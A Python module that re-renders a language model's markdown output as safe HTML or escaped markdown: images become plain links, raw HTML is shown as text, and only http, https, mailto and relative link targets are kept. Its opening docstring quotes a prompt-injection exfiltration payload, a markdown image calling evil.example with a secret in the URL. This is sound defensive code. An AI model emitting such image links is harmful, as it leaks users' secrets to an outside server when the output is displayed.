"""Model output as markdown and HTML that load nothing and run nothing.

A prompt-injected model can write ``![x](https://evil.example/p.png?d=SECRET)``: a
renderer that shows it as an image sends the secret to that server the moment the
output is displayed, and raw ``<img>``/``<script>`` tags are worse. So the answer is
parsed once (commonmark plus tables and strikethrough, raw HTML off) and written out
again from the parse tree:

- raw HTML from the model shows as text;
- an image becomes a plain link, ``[image: alt]``, that loads nothing until clicked;
- a link keeps its target only for ``http``, ``https``, ``mailto`` or a relative URL
  (``javascript:``, ``data:``, ``file:``, ``vbscript:`` and other schemes stay text),
  and links in HTML carry ``rel="noopener noreferrer"``;
- emphasis, lists, code, tables, headings, quotes and links render as usual.

:func:`to_html` gives HTML. :func:`to_markdown` gives markdown in which every piece of
model text is backslash-escaped, so that any markdown renderer (JupyterLab's, GitHub's,
nbconvert's) shows it as the text it is, with no HTML or image to load.
"""

from __future__ import annotations

import re
from collections.abc import Sequence
from typing import Any

from markdown_it import MarkdownIt
from markdown_it.common.utils import escapeHtml
from markdown_it.token import Token
from markdown_it.tree import SyntaxTreeNode

#: URL schemes a link may keep; a URL without a scheme (relative, ``#anchor``) is kept too
SAFE_SCHEMES = ("http", "https", "mailto")
_SCHEME = re.compile(r"([a-z][a-z0-9+.\-]*):")
_REL = "noopener noreferrer nofollow"


def safe_link(url: str) -> bool:
    """True when ``url`` may be a live link: http(s), mailto, or no scheme at all."""
    url = re.sub(r"[\x00-\x20\x7f]", "", url).lower()  # what browsers ignore in a scheme
    match = _SCHEME.match(url)
    if match is None:
        return ":" not in re.split(r"[/?#]", url, maxsplit=1)[0]
    return match.group(1) in SAFE_SCHEMES


class _Parser(MarkdownIt):
    """commonmark + tables + strikethrough, raw HTML off, only safe link targets."""

    def __init__(self) -> None:
        super().__init__("commonmark", {"html": False, "linkify": False})
        self.enable(["table", "strikethrough"])
        self.add_render_rule("image", _html_image)
        self.add_render_rule("link_open", _html_link_open)

    def validateLink(self, url: str) -> bool:
        return safe_link(url)


def _html_image(renderer: Any, tokens: Sequence[Token], idx: int, options: Any,
                env: Any) -> str:
    token = tokens[idx]
    alt = renderer.renderInlineAsText(token.children or [], options, env)
    label = escapeHtml(f"[image: {alt}]")
    src = str(token.attrGet("src") or "")
    open_links = sum((t.type == "link_open") - (t.type == "link_close") for t in tokens[:idx])
    if open_links > 0 or not safe_link(src):  # inside a link: no link in a link
        return f'<span class="gptoss-image">{label}</span>'
    return (f'<a class="gptoss-image" href="{escapeHtml(src)}" rel="{_REL}" '
            f'title="image not loaded">{label}</a>')


def _html_link_open(renderer: Any, tokens: Sequence[Token], idx: int, options: Any,
                    env: Any) -> str:
    token = tokens[idx]
    if not safe_link(str(token.attrGet("href") or "")):  # never: validateLink ran first
        token.attrSet("href", "#")
    token.attrSet("rel", _REL)
    return str(renderer.renderToken(tokens, idx, options, env))


_PARSER: _Parser | None = None


def _parser() -> _Parser:
    global _PARSER
    if _PARSER is None:
        _PARSER = _Parser()
    return _PARSER


def to_html(text: str) -> str:
    """Markdown ``text`` (from a model) as HTML with no raw HTML, images or unsafe links."""
    return str(_parser().render(text))


def to_markdown(text: str) -> str:
    """Markdown ``text`` (from a model) written out again with every piece of text escaped.

    The result renders like ``text`` under any commonmark renderer, except that raw HTML
    shows as text, images become ``[image: alt]`` links and unsafe links become text.
    """
    root = SyntaxTreeNode(_parser().parse(text))
    return "\n".join(_blocks(root.children, tight=False)).strip("\n") + "\n"


# -- text ------------------------------------------------------------------------------

_ALWAYS = set("\\`*[]<>&|~#")


def escape_text(text: str) -> str:
    """Plain text as markdown that shows exactly this text (no markup, HTML or images)."""
    lines = [_escape_run(line) for line in text.split("\n")]
    return "\n".join(_line_start(line) for line in lines)


def _escape_run(text: str) -> str:
    out = []
    for i, ch in enumerate(text):
        if ch in _ALWAYS:
            out.append("\\" + ch)
        elif ch == "_":
            inner = 0 < i < len(text) - 1 and text[i - 1].isalnum() and text[i + 1].isalnum()
            out.append("_" if inner else "\\_")
        elif ch == "!" and (i == len(text) - 1 or text[i + 1] == "["):
            out.append("\\!")  # a link may follow: '!' + '[a](u)' would be an image
        else:
            out.append(ch)
    return "".join(out)


_LIST_NUMBER = re.compile(r"^(\d{1,9})([.)])")


def _line_start(line: str) -> str:
    """Escape what only matters at the start of a line: headings, list markers, setext."""
    line = line.strip(" \t")  # leading/trailing blanks do not show, but could make code
    if line[:1] in ("-", "+", "="):
        return "\\" + line
    return _LIST_NUMBER.sub(r"\1\\\2", line)


# -- inline ----------------------------------------------------------------------------

def _destination(href: str) -> str:
    out = []
    for ch in href:
        if ch in "\\()<>&":
            out.append("\\" + ch)
        elif ch <= " " or ch == "\x7f":
            out.append(f"%{ord(ch):02X}")
        else:
            out.append(ch)
    return "".join(out)


def _code_span(code: str, in_table: bool) -> str:
    longest = max((len(run) for run in re.findall(r"`+", code)), default=0)
    fence = "`" * (longest + 1)
    pad = " " if code.startswith("`") or code.endswith("`") or (
        code.startswith(" ") and code.endswith(" ") and code.strip(" ")) else ""
    if in_table:
        code = code.replace("|", "\\|")
    return f"{fence}{pad}{code}{pad}{fence}"


def _plain(nodes: Sequence[SyntaxTreeNode]) -> str:
    return "".join(n.content if n.type in ("text", "code_inline") else _plain(n.children)
                   for n in nodes)


def _inline(nodes: Sequence[SyntaxTreeNode], in_table: bool = False,
            in_link: bool = False) -> str:
    out = []
    for node in nodes:
        kind = node.type
        if kind == "text":
            out.append(_escape_run(node.content))
        elif kind == "softbreak":
            out.append("\n")
        elif kind == "hardbreak":
            out.append("\\\n")
        elif kind == "code_inline":
            out.append(_code_span(node.content, in_table))
        elif kind in ("em", "strong", "s"):
            mark = node.markup or {"em": "*", "strong": "**", "s": "~~"}[kind]
            out.append(f"{mark}{_inline(node.children, in_table, in_link)}{mark}")
        elif kind == "link":
            inner = _inline(node.children, in_table, in_link=True)
            href = str(node.attrs.get("href", ""))
            out.append(f"[{inner}]({_destination(href)})" if safe_link(href) else inner)
        elif kind == "image":
            label = "\\[image: " + _escape_run(_plain(node.children)) + "\\]"
            src = str(node.attrs.get("src", ""))
            live = safe_link(src) and not in_link
            out.append(f"[{label}]({_destination(src)})" if live else label)
        else:  # html_inline and anything unknown: as text
            out.append(_escape_run(node.content))
    return "".join(out)


def _inline_lines(node: SyntaxTreeNode, in_table: bool = False) -> list[str]:
    text = _inline(node.children[0].children if node.children else [], in_table)
    return [_line_start(line) for line in text.split("\n")]


# -- blocks ----------------------------------------------------------------------------

def _blocks(nodes: Sequence[SyntaxTreeNode], tight: bool) -> list[str]:
    lines: list[str] = []
    for i, node in enumerate(nodes):
        if i and not tight:
            lines.append("")
        lines.extend(_block(node))
    return lines


def _block(node: SyntaxTreeNode) -> list[str]:
    kind = node.type
    if kind == "paragraph":
        return _inline_lines(node)
    if kind == "heading":
        level = int(node.tag[1:]) if node.tag[1:].isdigit() else 1
        return ["#" * level + " " + " ".join(_inline_lines(node))]
    if kind in ("fence", "code_block"):
        return _fence(node.content, node.info if kind == "fence" else "")
    if kind == "hr":
        return ["***"]
    if kind == "blockquote":
        return [f"> {line}" if line else ">" for line in _blocks(node.children, tight=False)]
    if kind in ("bullet_list", "ordered_list"):
        return _list(node)
    if kind == "table":
        return _table(node)
    return [_line_start(_escape_run(line)) for line in node.content.split("\n")]


def _fence(code: str, info: str) -> list[str]:
    longest = max((len(run) for run in re.findall(r"`+", code)), default=0)
    fence = "`" * max(3, longest + 1)
    lang = re.sub(r"[^A-Za-z0-9_+.#-]", "", info.split()[0]) if info.strip() else ""
    return [fence + lang, *code.rstrip("\n").split("\n"), fence] if code else [fence + lang,
                                                                               fence]


def _list(node: SyntaxTreeNode) -> list[str]:
    start = node.attrs.get("start")
    number = start if isinstance(start, int) else 1
    lines: list[str] = []
    tight = _is_tight(node)
    for i, item in enumerate(node.children):
        if i and not tight:
            lines.append("")
        if node.type == "ordered_list":
            marker = f"{number + i}{item.markup or '.'} "
        else:
            marker = f"{item.markup or '-'} "
        body = _blocks(item.children, tight=tight) or [""]
        lines.append((marker + body[0]).rstrip())
        lines.extend(" " * len(marker) + line if line else "" for line in body[1:])
    return lines


def _is_tight(node: SyntaxTreeNode) -> bool:
    return all(p.hidden for item in node.children for p in item.children
               if p.type == "paragraph")


def _table(node: SyntaxTreeNode) -> list[str]:
    rows = [tr for part in node.children for tr in part.children]
    aligns = {"text-align:left": ":--", "text-align:right": "--:", "text-align:center": ":-:"}
    lines = []
    for r, row in enumerate(rows):
        cells = [" ".join(_inline_lines(cell, in_table=True)) for cell in row.children]
        lines.append("| " + " | ".join(cells) + " |")
        if r == 0:
            seps = [aligns.get(str(cell.attrs.get("style", "")), "---") for cell in row.children]
            lines.append("| " + " | ".join(seps) + " |")
    return lines
